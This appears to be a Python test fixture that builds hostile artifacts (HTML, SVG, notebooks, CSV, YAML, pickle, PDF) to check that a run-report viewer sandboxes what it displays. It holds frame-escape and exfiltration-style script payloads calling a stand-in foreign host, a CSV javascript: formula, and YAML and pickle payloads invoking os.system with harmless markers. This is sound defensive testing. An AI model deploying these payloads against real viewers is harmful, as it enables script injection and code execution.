"""Hostile artifacts, one or more for each viewer, and of failed runs and models.

What a reader opens may run, in a sandbox; nothing of it may reach the page around it.
"""

import json
from base64 import b64encode
from collections.abc import Iterable
from typing import Any

import yaml

from tests.site.hostile_texts import ATTRIBUTE, CONTROL, FOREIGN, HIT, KEY, MARKUP, NOTE, VALUE

# What a script may try from within a frame, each by itself, so that one that fails does not keep
# the others from being tried. The second list ends the page that they stand in.
ELSEWHERE = f"https://{FOREIGN}"
ESCAPES = (
    "window.top.__hit=1",
    "window.parent.__hit=1",
    "window.opener.__hit=1",
    "top.document.title='HIT'",
    "parent.document.body.innerHTML='HIT'",
    f"open('{ELSEWHERE}/open')",
    "open('about:blank').document.write('x')",
    "alert('HIT')",
    "confirm('HIT')",
    "prompt('HIT')",
    "print()",
    f"fetch('{ELSEWHERE}/fetch')",
    f"navigator.sendBeacon('{ELSEWHERE}/beacon','x')",
    f"new WebSocket('wss://{FOREIGN}/socket')",
    f"new EventSource('{ELSEWHERE}/events')",
    f"new Image().src='{ELSEWHERE}/image'",
    f"new Worker('{ELSEWHERE}/worker')",
    f"import('{ELSEWHERE}/module')",
    f"navigator.serviceWorker.register('{ELSEWHERE}/service')",
    "localStorage.setItem('reportgen-theme','HIT')",
    "document.cookie='HIT=1'",
    f"Object.assign(document.createElement('a'),{{href:'{ELSEWHERE}/a',target:'_blank'}}).click()",
    "Object.assign(document.createElement('a'),{href:'data:,x',download:'HIT'}).click()",
    "parent.postMessage('HIT','*')",
    "document.documentElement.requestFullscreen()",
)
LEAVES = (
    f"top.location='{ELSEWHERE}/top'",
    f"Object.assign(document.createElement('a'),{{href:'{ELSEWHERE}/t',target:'_top'}}).click()",
    f"document.body.innerHTML='<form id=f target=_top action={ELSEWHERE}/f>';f.submit()",
    f"location='{ELSEWHERE}/own'",
)
RAN = "document.documentElement.dataset.ran='yes'"  # by which a test knows that scripts did run


def _trying(escapes: Iterable[str], head: str, foot: str = "") -> str:
    """A page that tries to escape, and says something without its scripts."""
    words = "a text that stands here without scripts " * 8
    scripts = "".join(f"<script>try{{{escape}}}catch(e){{}}</script>" for escape in escapes)
    return (
        "<!doctype html><html><head><title>\"'></title></iframe><script>parent.__hit=1</script>"
        f"{head}</head><body><p>{words}</p><script>{RAN}</script>{scripts}{foot}</body></html>"
    )


ESCAPING_PAGE = _trying(
    ESCAPES,
    f"<base href={ELSEWHERE}/><link rel=stylesheet href='{ELSEWHERE}/s.css'>"
    f"<script src='{ELSEWHERE}/s.js'></script>",
    f"<iframe src='{ELSEWHERE}/frame'></iframe><object data='{ELSEWHERE}/object'></object>"
    f"<img src='{ELSEWHERE}/i.png' onerror=parent.__hit=1><video src='{ELSEWHERE}/v'></video>",
)
LEAVING_PAGE = _trying(LEAVES, f"<meta http-equiv=refresh content='1;url={ELSEWHERE}/refresh'>")
PLAIN_PAGE = f"<!doctype html><title>plain</title><p>{'no scripts here ' * 20}</p>"
LARGE_SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30" onload="{HIT};top.__hit=1">'
    f"<script>{HIT};top.__hit=1</script><image href='//{FOREIGN}/i.png'/>"
    f"<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='{HIT}'/></foreignObject>"
    f"<!-- {'x' * 50_000} --></svg>"
)
PNG = (
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x04\0\0\0\x03\x08\x06\0\0\0" + b"\0" * 40
)  # a head that tells a size; the rest is no image

_CELLS: tuple[dict[str, Any], ...] = (
    {"cell_type": "markdown", "source": NOTE.splitlines(keepends=True)},
    {"cell_type": "raw", "source": VALUE},
    {
        "cell_type": "code",
        "execution_count": VALUE,
        "source": f"x = '''{VALUE}'''\n# {CONTROL}",
        "outputs": [
            {"output_type": "stream", "text": [VALUE, CONTROL]},
            {"output_type": "error", "ename": VALUE, "traceback": [f"\x1b[31m{VALUE}\x1b[0m"]},
            {"output_type": "display_data", "data": {"text/html": VALUE, "text/plain": VALUE}},
            {"output_type": "display_data", "data": {"image/png": f'x" onerror="{HIT}'}},
            {"output_type": "display_data", "data": {"image/svg+xml": MARKUP}},
            {"output_type": "display_data", "data": {"application/javascript": HIT}},
            {"output_type": "display_data", "data": {"image/png": b64encode(PNG).decode()}},
        ],
    },
)
_NOTEBOOK = json.dumps(
    {"nbformat": 4, "metadata": {"kernelspec": {"language": VALUE}}, "cells": _CELLS}
)
_TABLE = {"columns": [VALUE, KEY], "index": [0], "data": [[VALUE, CONTROL], [None, ATTRIBUTE]]}
_QUOTED = VALUE.replace('"', '""')
_SHEET = (
    f'"{_QUOTED}","=HYPERLINK(""javascript:{HIT}"")"\n"{_QUOTED}","{KEY.replace(chr(34), "")}"\n'
)
_YAML = yaml.safe_dump({VALUE: [VALUE, {KEY: CONTROL}], "plain": VALUE}, allow_unicode=True)
_OBJECT = f"!!python/object/apply:os.system ['echo {HIT}']\n"

# For each viewer: by path below a run's artifacts.
SHOWN: dict[str, str | bytes] = {
    "html/escaping.html": ESCAPING_PAGE,
    "html/leaving.html": LEAVING_PAGE,
    "html/plain.htm": PLAIN_PAGE,
    f"html/{KEY}.html": ESCAPING_PAGE,
    "svg/large.svg": LARGE_SVG,
    f"svg/{KEY}.svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{HIT}"/>',
    "text/note.md": NOTE,
    "text/run.log": f"{VALUE}\n{CONTROL}\n",
    "text/train.py": f"x = '''{VALUE}'''  # {VALUE}\n",
    "text/fit.R": f"x <- '{KEY}' # {VALUE}\n",
    "text/run.sh": f"echo {VALUE}\n",
    "text/page.css": f"a {{ content: '{VALUE}' }}\n",
    "text/page.js": f"{HIT} // {VALUE}\n",
    f"text/{KEY}.txt": VALUE,
    "book/cells.ipynb": _NOTEBOOK,
    "data/table.json": json.dumps(_TABLE),
    "data/tree.json": json.dumps({VALUE: [VALUE, {KEY: CONTROL}], "n": 1}),
    "data/lines.jsonl": f"{json.dumps({VALUE: VALUE})}\n{json.dumps({KEY: CONTROL})}\n",
    "data/torn.json": f'{{"a": {VALUE}',
    "data/tree.yaml": _YAML,
    "data/object.yaml": _OBJECT,
    "data/sheet.csv": _SHEET,
    "data/sheet.tsv": f"{KEY}\t{KEY}\n{KEY}\t1\n",
    f"data/{KEY}.csv": _SHEET,
    f"images/{KEY}+step+1+timestamp+1772530157400+6f6e4b64-59ed-707c.png": PNG,
    f"images/{KEY}+step+2+timestamp+1772530157500+6f6e4b64-59ed-707d.png": PNG,
    **{f"images/{KEY}{number}.png": PNG for number in range(3)},
    f"images/{KEY}.jpg": b"not an image",
    f"media/{KEY}.wav": b"RIFF",
    f"media/{KEY}.mp4": b"\0\0\0\x20ftyp",
    f"media/{KEY}.pdf": f"%PDF-1.4\n/JS ({HIT})".encode(),
    f"data/{KEY}.npy": f"\x93NUMPY\x01\0v\0{{'descr': '<f4', {VALUE}".encode("latin-1", "replace"),
    f"data/{KEY}.pkl": b"cos\nsystem\n(S'echo hit'\ntR.",
    "data/weights.safetensors": (20).to_bytes(8, "little") + b'{"<b>":{"shape":[2]}}',
    "lfs.csv": f"version https://git-lfs.github.com/spec/v1\noid sha256:{VALUE}\nsize {KEY}\n",
}

TRACEBACK = f"""Traceback (most recent call last):
  File "train.py", line 3, in <module>
    {VALUE}
ValueError: {MARKUP}{CONTROL}
"""

MODEL: dict[str, str | bytes] = {
    "MLmodel": yaml.safe_dump(
        {
            "artifact_path": VALUE,
            "run_id": VALUE,
            "model_uuid": VALUE,
            "mlflow_version": VALUE,
            "utc_time_created": VALUE,
            "model_size_bytes": VALUE,
            "metadata": {VALUE: VALUE, KEY: [CONTROL]},
            "flavors": {
                "python_function": {"loader_module": VALUE, "python_version": VALUE, "env": VALUE},
                "sklearn": {"sklearn_version": VALUE, "code": VALUE},
                KEY: {"version": VALUE},
            },
            "signature": {
                "inputs": json.dumps(
                    [{"name": VALUE, "type": "double"}, {"name": KEY, "type": VALUE}]
                ),
                "outputs": json.dumps([{"name": VALUE, "type": "tensor", "tensor-spec": VALUE}]),
                "params": json.dumps([{"name": KEY, "type": "string", "default": VALUE}]),
            },
            "saved_input_example_info": {"artifact_path": "input_example.json", "type": VALUE},
        },
        allow_unicode=True,
    ),
    "input_example.json": json.dumps({"columns": [VALUE, KEY], "data": [[VALUE, 1.5], [KEY, 2]]}),
    "requirements.txt": f"{VALUE}\nnumpy==1.0 # {KEY}\n",
    "conda.yaml": _YAML,
    "model.pkl": b"cos\nsystem\n(S'echo hit'\ntR.",
}
